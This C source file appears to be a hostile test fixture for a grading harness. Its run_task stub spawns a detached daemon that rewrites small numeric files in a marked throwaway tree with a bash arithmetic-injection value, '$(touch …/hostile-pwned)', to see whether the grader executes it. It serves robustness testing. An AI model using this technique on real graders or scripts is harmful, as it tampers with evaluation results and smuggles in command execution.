/*
 * Hostile: run_task is the stub, and it leaves a daemon that for 20
 * seconds writes "a[$(touch TREE/hostile-pwned)]" into every small
 * numeric file of the grading it can reach (a time, a count): a shell
 * that evaluates such a file in $(( )) runs the command.
 */
#define _GNU_SOURCE
#include "aw.h"

#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* The throwaway tree: the nearest directory above `from` with the marker. */
static int find_tree(const char *from, char *out, size_t size)
{
    char dir[PATH_MAX], probe[PATH_MAX + 32];
    if (realpath(from, dir) == NULL)
        return -1;
    for (;;) {
        snprintf(probe, sizeof probe, "%s/.hostile-tree", dir);
        if (access(probe, F_OK) == 0) {
            snprintf(out, size, "%s", dir);
            return 0;
        }
        char *slash = strrchr(dir, '/');
        if (slash == NULL || slash == dir)
            return -1;
        *slash = '\0';
    }
}

static int tree_of_this_run(char *out, size_t size)
{
    return find_tree(__FILE__, out, size) == 0 ? 0 : find_tree(".", out, size);
}

static char payload[PATH_MAX + 64];

static int poison(const char *path, const struct stat *st, int kind,
                  struct FTW *ftw)
{
    char text[32];
    (void)ftw;
    if (kind != FTW_F || st->st_size == 0 || st->st_size > 20)
        return 0;
    int fd = open(path, O_RDWR | O_NOFOLLOW);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, text, sizeof text - 1);
    text[n > 0 ? n : 0] = '\0';
    if (n > 0 && strspn(text, "0123456789\n") == (size_t)n) {
        ftruncate(fd, 0);
        pwrite(fd, payload, strlen(payload), 0);
    }
    close(fd);
    return 0;
}

int run_task(aw_task_fn fn, void *arg, void **result)
{
    static int started;
    char tree[PATH_MAX];
    (void)fn;
    (void)arg;
    (void)result;
    if (started++ || tree_of_this_run(tree, sizeof tree) != 0)
        return -1;
    snprintf(payload, sizeof payload, "a[$(touch %s/hostile-pwned)]\n", tree);
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            for (int i = 0; i < 2000; i++) {
                nftw(tree, poison, 16, FTW_PHYS);
                usleep(10 * 1000);
            }
        }
        _exit(0);
    }
    return -1;
}
